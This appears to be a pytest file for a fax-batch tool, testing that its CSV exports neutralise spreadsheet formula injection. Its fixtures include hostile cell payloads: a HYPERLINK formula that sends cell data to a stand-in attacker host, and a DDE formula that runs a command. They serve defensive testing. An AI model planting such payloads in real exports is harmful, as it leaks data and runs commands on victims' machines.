"""Formula injection: no CSV faxbatch writes holds a cell a spreadsheet would run.

``manifest.csv``, ``report.csv`` and ``numbers.csv`` of a campaign whose texts are formulas: every
cell that starts like a formula is our text formula ``="..."`` (whose value is the text), and the
csv module reads each back to exactly the text of the manifest.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from faxbatch.build.manifest import FIELDS
from faxbatch.csvcells import FORMULA_START, csv_cell, formula_safe, spreadsheet_safe
from faxbatch.sending.status import OPTIONAL_FIELDS, REPORT_FIELDS
from tests.conftest import BASIC
from tests.hostile.conftest import Sandbox

FORMULAS = {
    "court": ('=HYPERLINK("http://evil.example/?"&A1)', "+1-2"),
    "admin": ("@SUM(A1)", "-2+3"),
    "ministry": ("=cmd|' /C calc'!A0", '=1+1 "quoted"'),
}
# our text formula: = then one string constant, quotes doubled; nothing else can be evaluated
TEXT_FORMULA = re.compile(r'="(?:[^"]|"")*"')


def _hostile() -> str:
    text = BASIC
    for old_name, old_org, rid in (
        ("name: The Presiding Judge", "organization: Almaty City Court", "court"),
        ("name: Head of the Presidential Administration", None, "admin"),
        ("name: Foreign Ministry", None, "ministry"),
    ):
        name, organization = FORMULAS[rid]
        new = f"name: {json.dumps(name)}"
        if old_org is None:
            new += f"\n    organization: {json.dumps(organization)}"
        else:
            text = text.replace(old_org, f"organization: {json.dumps(organization)}")
        text = text.replace(old_name, new)
    return text


def _text_of(cell: str) -> str:
    """What a spreadsheet shows for a cell faxbatch wrote."""
    if TEXT_FORMULA.fullmatch(cell):
        return cell[2:-1].replace('""', '"')
    return cell


def _rows(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_nothing_runs(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for name, cell in row.items():
            if cell.startswith(FORMULA_START):
                assert TEXT_FORMULA.fullmatch(cell), (name, cell)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil")', '="=HYPERLINK(""http://evil"")"'),
        ("+1-2", '="+1-2"'),
        ("@SUM(A1)", '="@SUM(A1)"'),
        ("-2+3", '="-2+3"'),
        ("\t=1", '="\t=1"'),
        ("\r=1", '="\r=1"'),
        ("Almaty 2012", "Almaty 2012"),  # the manifest keeps what is not a formula as it is
        ("2012-05-09", "2012-05-09"),
        ("=" + "x" * 300, "'=" + "x" * 300),  # too long for a text formula: shown, not run
    ],
)
def test_one_function_makes_every_cell_safe(text: str, cell: str) -> None:
    assert formula_safe(text) == cell
    assert spreadsheet_safe(text) == cell or spreadsheet_safe(text) == f'="{text}"'


def test_no_csv_faxbatch_writes_holds_a_formula(sandbox: Sandbox) -> None:
    run = sandbox.run("build", sandbox.campaign(_hostile()), "--out", sandbox.out)
    assert run.returncode == 6, run.stderr  # "ministry" has no fax number
    run = sandbox.run("status", sandbox.out)  # the transmission report, nothing sent yet
    assert run.returncode == 0, run.stderr
    documents = json.loads((sandbox.out / "manifest.json").read_text("utf-8"))["documents"]
    by_id = {doc["recipient_id"]: doc for doc in documents}

    manifest = _rows(sandbox.out / "manifest.csv")
    report = _rows(sandbox.out / "report.csv")
    numbers = _rows(sandbox.out / "numbers.csv")
    for rows in (manifest, report, numbers):
        assert rows
        _assert_nothing_runs(rows)

    # read back, each cell is exactly the manifest's text
    assert [row["recipient_id"] for row in manifest] == [doc["recipient_id"] for doc in documents]
    for row, doc in zip(manifest, documents, strict=True):
        assert list(row) == list(FIELDS)
        for name in FIELDS:
            assert _text_of(row[name]) == csv_cell(doc[name]), name
    # the report's fixed columns, and the language and signer columns when the batch has them
    assert [name for name in report[0] if name not in OPTIONAL_FIELDS] == list(REPORT_FIELDS)
    for row in report:
        doc = by_id[row["recipient_id"]]
        assert _text_of(row["recipient"]) == doc["recipient_name"]
        assert _text_of(row["organization"]) == (doc["organization"] or "")
        assert _text_of(row["number"]) == (doc["fax_international"] or doc["fax_raw"] or "")
    for row in numbers:
        name, organization = FORMULAS[row["recipient_id"]]
        assert _text_of(row["recipient"]) == name
        assert _text_of(row["organization"]) == organization
    for rid, (name, organization) in FORMULAS.items():
        assert by_id[rid]["recipient_name"] == name
        assert by_id[rid]["organization"] == organization


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_libreoffice_shows_the_text(sandbox: Sandbox) -> None:
    run = sandbox.run("build", sandbox.campaign(_hostile()), "--out", sandbox.out)
    assert run.returncode == 6, run.stderr
    converted = sandbox.campaign_dir / "lo"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{sandbox.campaign_dir}/lo-profile",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(converted),
            str(sandbox.out / "manifest.csv"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    rows = list(csv.DictReader(io.StringIO((converted / "manifest.csv").read_text("utf-8"))))
    assert rows[0]["recipient_name"] == FORMULAS["court"][0]  # the formula's value: the text
    assert rows[1]["organization"] == FORMULAS["admin"][1]
